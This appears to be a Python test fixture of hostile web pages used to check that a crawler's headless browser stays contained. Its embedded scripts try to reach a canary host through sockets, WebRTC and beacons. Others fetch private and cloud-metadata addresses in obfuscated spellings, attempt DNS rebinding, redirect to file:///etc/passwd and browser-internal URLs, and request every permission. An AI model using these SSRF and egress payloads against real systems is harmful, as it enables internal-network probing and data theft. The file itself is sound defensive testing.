"""Pages that try every way out: to the network, to addresses that nobody has opened, to the machine."""

from __future__ import annotations

from tests.hostile_pages.kinds import Hostile, with_script
from tests.hostile_pages.server import Answer, Request

_FIRST = ("img/asked.png",)
_ICE = "[{urls: ['stun:%CANARY%', 'turn:%CANARY%?transport=udp', 'turn:%CANARY%?transport=tcp'], username: 'a', credential: 'b'}]"


def _redirect(to: str, status: int = 302) -> Answer:
    def answer(request: Request) -> None:
        location = request.server.filled(to).decode()
        request.say(b"", "text/html", status=status, Location=location)

    return answer


def _chain(request: Request) -> None:
    path, _, number = request.path.partition("?")
    request.say(b"", status=302, Location=f"{path}?{int(number or 0) + 1}")


PAGES = (
    Hostile(
        name="sockets",
        what="WebSocket, EventSource, WebTransport, to a canary",
        page=with_script(
            "for (let n = 0; n < 20; n++) { new WebSocket('ws://%CANARY%/'); new EventSource('http://%CANARY%/');"
            " try { new WebTransport('https://%CANARY%/'); } catch {} try { new WebSocketStream('ws://%CANARY%/'); } catch {} }"
            "new EventSource('events');"
        ),
        parts={"events": "data: 1\n\n"},
        images=_FIRST,
        never=("events",),
        left_out=("render-sockets",),
    ),
    Hostile(
        name="peers",
        what="WebRTC, by STUN and TURN of a canary",
        page=with_script(
            f"for (let n = 0; n < 5; n++) {{ const one = new RTCPeerConnection({{iceServers: {_ICE}}});"
            " one.createDataChannel('a'); one.createOffer().then((offer) => one.setLocalDescription(offer)); }"
        ),
        images=_FIRST,
    ),
    Hostile(
        name="beacons",
        what="beacons, pings and reports, in time and at the end, to a canary and its own server",
        page=with_script(
            "const send = () => { for (const to of ['http://%CANARY%/', 'beacon']) { navigator.sendBeacon(to, 'x');"
            " fetch(to, {keepalive: true, method: 'POST', body: 'x'}).catch(() => 0);"
            " try { fetchLater(to, {activateAfter: 0}); } catch {} } }; send();"
            "addEventListener('pagehide', send); addEventListener('visibilitychange', send); document.querySelector('a').click();",
            "<a ping='http://%CANARY%/ beacon' href=#>x</a>",
            "<meta http-equiv=Content-Security-Policy content=\"frame-src 'none'; report-uri beacon-report\"><iframe src=x></iframe>",
        ),
        never=("beacon-report",),
        left_out=("render-beacons", "render-posts"),
    ),
    Hostile(
        name="hints",
        what="preconnect, dns-prefetch, prefetch, prerender, speculation rules, in the document and in headers",
        page=lambda request: request.say(
            request.server.filled(
                "<!DOCTYPE html><link rel=preconnect href=//%CANARY%><link rel=dns-prefetch href=//canary.test>"
                "<link rel=prefetch href=hinted-1><link rel=prefetch href=//%CANARY%/><link rel=prerender href=hinted-2>"
                "<link rel=next href=hinted-3><link rel=modulepreload href=m.js><link rel=manifest href=hinted-4>"
                '<script type=speculationrules>{"prefetch": [{"urls": ["hinted-5", "http://%CANARY%/"]}],'
                ' "prerender": [{"urls": ["hinted-6"]}], "prefetch_with_subresources": [{"urls": ["hinted-7"]}]}</script>'
                "<link rel=preload as=image href=img/preloaded.png><link rel=icon href=img/icon.png>"
                "<img src=img/first.png><video src=hinted-8 autoplay></video><audio src=hinted-8></audio>"
                "<style>@font-face { font-family: a; src: url(hinted-9.woff2) } body { font-family: a }</style>text"
            ),
            Link="</hints/hinted-a>; rel=prefetch, </hints/hinted-b>; rel=preload; as=script, <//canary.test>; rel=preconnect",
            Speculation_Rules='"/hints/hinted-c"',
        ),
        never=("hinted",),
        left_out=("render-prefetch",),
    ),
    Hostile(
        name="private-addresses",
        what="requests to addresses that are private, by every spelling",
        page=with_script(
            "const all = ['http://169.254.169.254/latest/meta-data/', 'http://%PRIVATE%/', 'http://%PRIVATE_NAME%/',"
            " 'http://[::1]:%PORT%/', 'http://10.0.0.1/', 'http://192.168.1.1/', 'http://0.0.0.0:%PORT%/', 'http://2130706434/',"
            " 'http://0x7f.0.0.2/', 'http://[::ffff:7f00:2]/', 'http://localhost.test.:6000/', 'http://site.test:22/'];"
            "for (const one of all) { fetch(one).catch(() => 0); fetch(one, {mode: 'no-cors'}).catch(() => 0);"
            " new Image().src = one + 'img.png'; const script = document.createElement('script'); script.src = one;"
            " document.head.append(script); const frame = document.createElement('iframe'); frame.src = one;"
            " document.body.append(frame); }"
        ),
        images=_FIRST,
        left_out=("render-guard",),
    ),
    Hostile(
        name="rebinding",
        what="a name that was the site's own address, and is a private one now",
        page=with_script(
            "(async () => { for (let n = 0; n < 4; n++) { await fetch('http://%REBINDING%/?' + n).catch(() => 0);"
            " await new Promise((done) => setTimeout(done, 50)); } })();"
        ),
        images=_FIRST,
        left_out=("render-guard",),
    ),
    Hostile(
        name="redirected-to-private",
        in_ci=False,
        what="a script, an API and a frame that redirect to a private address",
        page=with_script(
            "fetch('to').catch(() => 0); new Worker('to');",
            "<script src=to></script><iframe src=to></iframe>",
        ),
        parts={"to": _redirect("http://%PRIVATE%/")},
        images=_FIRST,
        left_out=("render-guard",),
    ),
    Hostile(
        name="itself-private",
        what="the page itself redirects to a private address",
        page=_redirect("http://%PRIVATE%/"),
        reasons=("forbidden-address", "out-of-scope"),
    ),
    Hostile(
        name="itself-elsewhere",
        what="the page itself redirects out of the crawl, where scripts would run",
        page=_redirect("http://%OTHER%/itself-elsewhere/there"),
        parts={"there": "<script src=/itself-elsewhere/script.js></script>", "script.js": "1"},
        reasons=("out-of-scope",),
        never=("script.js",),
    ),
    Hostile(
        name="itself-a-file",
        what="the page itself redirects to a file",
        page=_redirect("file:///etc/passwd"),
        reasons=("bad-redirect",),
    ),
    Hostile(
        name="itself-a-data-url",
        in_ci=False,
        what="the page itself redirects to a data: URL",
        page=_redirect("data:text/html,<img src=http://site.test/x.png>"),
        reasons=("bad-redirect",),
    ),
    Hostile(
        name="itself-in-a-circle",
        what="the page itself redirects to itself",
        page=_redirect("/itself-in-a-circle/"),
        reasons=("too-many-redirects",),
    ),
    Hostile(
        name="itself-ever-further",
        in_ci=False,
        what="the page itself redirects on and on",
        page=_chain,
        reasons=("too-many-redirects",),
    ),
    Hostile(
        name="itself-nowhere",
        what="the page itself redirects without saying where to",
        page=lambda request: request.say(b"<img src=img/first.png>", status=302),
        reasons=("unexpected-status", "bad-redirect"),
    ),
    Hostile(
        name="parts-in-circles",
        what="scripts and APIs that redirect in circles, on and on, and nowhere",
        page=with_script(
            "for (const to of ['circle', 'chain?0', 'nowhere', 'file', 'js']) { fetch(to).catch(() => 0);"
            " const one = document.createElement('script'); one.src = to; document.head.append(one); }"
        ),
        parts={
            "circle": _redirect("circle"),
            "chain": _chain,
            "nowhere": lambda request: request.say(b"", status=302),
            "file": _redirect("file:///etc/passwd"),
            "js": _redirect("javascript:alert(1)"),
        },
        images=_FIRST,
    ),
    Hostile(
        name="other-schemes",
        what="file:, chrome:, devtools:, view-source:, about:, data: and javascript: in frames, windows and as its own address",
        page=with_script(
            "const all = ['file:///etc/passwd', 'chrome://version', 'devtools://devtools/bundled/inspector.html',"
            " 'view-source:file:///etc/passwd', 'chrome-extension://x/y', 'filesystem:http://a/b', 'ftp://%CANARY%/', 'mailto:a@b',"
            " 'intent://x', 'about:srcdoc', 'chrome://crash', 'chrome://inducebrowsercrashforrealz'];"
            "for (const one of all) { for (const tag of ['iframe', 'img', 'script', 'object', 'embed', 'link']) {"
            " const made = document.createElement(tag); made.src = made.data = made.href = one; made.rel = 'stylesheet';"
            " document.body.append(made); } try { open(one); } catch {} try { fetch(one).catch(() => 0); } catch {}"
            " try { location = one; } catch {} }"
        ),
        images=_FIRST,
    ),
    Hostile(
        name="own-address-blank",
        what="goes to about:blank, where nothing is asked for",
        page=with_script(
            "setTimeout(() => { location = 'about:blank'; }, 400); new Image().src = 'img/late.png';"
        ),
        images=(*_FIRST, "img/late.png"),
        left_out=("render-away",),
    ),
    Hostile(
        name="own-address-blob",
        what="goes to a blob: of its own, and from there to the next",
        page=with_script(
            "const text = `<img src=/own-address-blob/img/in-blob.png><script>(${step})(9)<\\/script>`;"
            "function step() { const text = '<p>' + Math.random(); setTimeout(() => { location ="
            " URL.createObjectURL(new Blob([text], {type: 'text/html'})); }, 100); }"
            "setTimeout(() => { location = URL.createObjectURL(new Blob([text], {type: 'text/html'})); }, 300);"
        ),
        images=_FIRST,
        left_out=("render-away",),
    ),
    Hostile(
        name="own-address-data",
        in_ci=False,
        what="goes to data: and javascript: URLs",
        page=with_script(
            "setTimeout(() => { location = 'data:text/html,<h1>x'; location = 'javascript:\"<h1>y\"'; }, 300);"
        ),
        images=_FIRST,
    ),
    Hostile(
        name="by-robots-txt",
        what="scripts, APIs, frames and styles that robots.txt forbids",
        page=with_script(
            "fetch('forbidden.json').catch(() => 0); import('./forbidden.mjs').catch(() => 0); new Worker('forbidden-worker.js');"
            "fetch('to').catch(() => 0);",
            "<iframe src=forbidden.html></iframe>",
            "<script src=forbidden.js></script><link rel=stylesheet href=forbidden.css>",
        ),
        parts={"to": _redirect("forbidden-in-the-end"), "forbidden": "1"},
        images=_FIRST,
        never=("forbidden",),
        left_out=("render-robots",),
    ),
    Hostile(
        name="workers-that-ask",
        what="requests of workers, and of their workers, to a canary and where robots.txt forbids it",
        page=with_script(
            "new Worker('worker.js'); new SharedWorker('worker.js'); new Worker('worker.js', {type: 'module'});"
        ),
        parts={
            "worker.js": "const go = () => { fetch('forbidden').catch(() => 0); fetch('http://%PRIVATE%/').catch(() => 0);"
            " try { new WebSocket('ws://%CANARY%/'); } catch {} }; go(); self.onconnect = go;"
            " try { new Worker(URL.createObjectURL(new Blob([`(${go})()`]))); } catch {}"
            " try { importScripts('http://%PRIVATE%/a.js'); } catch {}"
        },
        images=_FIRST,
        never=("forbidden",),
    ),
    Hostile(
        name="service-worker",
        what="a service worker that would answer for the page, and outlive it",
        page=with_script(
            "navigator.serviceWorker?.register('sw.js').then(() => fetch('registered'));"
            "navigator.serviceWorker?.ready.then((one) => { one.sync?.register('a'); one.backgroundFetch?.fetch('b', ['c']); });"
        ),
        parts={
            "sw.js": "onfetch = (e) => e.respondWith(new Response('x')); fetch('from-sw'); setInterval(() => fetch('from-sw'), 50);"
        },
        images=_FIRST,
        never=("registered", "from-sw", "sw.js"),
    ),
    Hostile(
        name="permissions",
        what="everything that a person would be asked for",
        page=with_script(
            "const quiet = (call) => { try { call()?.catch?.(() => 0); } catch {} };"
            "const ask = () => { for (const call of [() => Notification.requestPermission(), () => navigator.geolocation"
            ".getCurrentPosition(() => 0), () => navigator.mediaDevices.getUserMedia({audio: true, video: true}),"
            " () => navigator.mediaDevices.getDisplayMedia(), () => navigator.clipboard.readText(), () => document.documentElement"
            ".requestFullscreen(), () => document.body.requestPointerLock(), () => navigator.usb.requestDevice({filters: []}),"
            " () => navigator.bluetooth.requestDevice({acceptAllDevices: true}), () => navigator.serial.requestPort(),"
            " () => navigator.hid.requestDevice({filters: []}), () => navigator.credentials.get({password: true, publicKey:"
            " {challenge: new Uint8Array(9)}}), () => showOpenFilePicker(), () => showSaveFilePicker(), () => showDirectoryPicker(),"
            " () => navigator.share({url: '/'}), () => navigator.wakeLock.request(), () => navigator.requestMIDIAccess({sysex: true}),"
            " () => new PaymentRequest([{supportedMethods: 'http://%CANARY%/'}], {total: {label: 'a', amount: {currency: 'EUR',"
            " value: '1'}}}).show(), () => navigator.registerProtocolHandler('web+x', '?%s'), () => document.querySelector('input')"
            ".showPicker(), () => document.querySelector('input').click(), () => navigator.keyboard.lock(), () => queryLocalFonts(),"
            " () => document.requestStorageAccess(), () => navigator.setAppBadge(9), () => EyeDropper && new EyeDropper().open()])"
            " quiet(call); }; for (let n = 0; n < 50; n++) ask(); document.onclick = ask;",
            "<input type=file><button>Load more</button><label>next<input type=file></label>",
        ),
        images=_FIRST,
    ),
    Hostile(
        name="foreign-styles",
        in_ci=False,
        what="style sheets, fonts, cursors, masks and filters of a canary",
        page=with_script(
            "",
            '<div style="background: url(//%CANARY%/img.png); cursor: url(//%CANARY%/c.cur), auto; mask: url(//%CANARY%/m.svg#a);'
            ' filter: url(//%CANARY%/f.svg#a)">x</div><svg><use href=//%CANARY%/u.svg#a /><image href=//%CANARY%/i.png />'
            "<feImage href=//%CANARY%/e.png /></svg><object data=//%OTHER%/o.svg></object><embed src=//%OTHER%/e.pdf>"
            "<input type=image src=//%CANARY%/n.png><video poster=//%CANARY%/p.png></video><track src=//%CANARY%/t.vtt>",
            "<style>@font-face { font-family: b; src: url(//%CANARY%/f.woff) } body { font-family: b }</style>",
        ),
        images=_FIRST,
    ),
)
